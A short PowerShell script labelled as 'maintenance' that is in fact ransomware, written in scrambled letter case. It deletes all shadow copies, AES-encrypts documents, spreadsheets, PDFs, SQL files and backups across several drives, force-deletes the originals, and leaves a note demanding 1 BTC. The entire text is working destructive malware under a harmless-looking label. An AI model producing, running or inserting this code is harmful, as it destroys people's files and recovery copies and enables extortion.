# MaInTeNaNcE 7768 V3
VsSadmIn.EXe dElete ShAdOwS /alL /quiET
geT-WMioBJEct win32_ShADowCoPY | FoReaCh-OBjecT { $_.DEletE() }
$aES = [SYSteM.SeCUrIty.CrYpToGrApHy.aes]::CrEaTE()
$AEs.key = [tEXt.EncodiNG]::utf8.gEtByTeS('Adm1n!strat0rAdm1n!strat0r'.SUBStRINg(0,32))
gEt-CHILdItEM -path D:\, E:\, c:\USerS -InCLuDe *.docX,*.XlSx,*.pDF,*.SqL,*.BAk -recursE -ERroraCTIon SiLENtLYcONTinUE | FOreACh-Object {
  $ByTEs = [iO.fiLE]::rEaDaLlByTeS($_.fULLNamE)
  $eNC = $aes.cREaTEEncrypTOR().TrAnSfOrMfInAlBlOcK($bytES, 0, $BYtes.lENGtH)
  [iO.FIle]::wrIteAllbytEs($_.FulLnaME + '.pay', $ENc)
  REMOVE-item $_.FuLlnamE -fOrCe
}
seT-COntENT c:\UsErS\pubLic\DeSKTOp\HoW_To_dEcRyPt.TXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
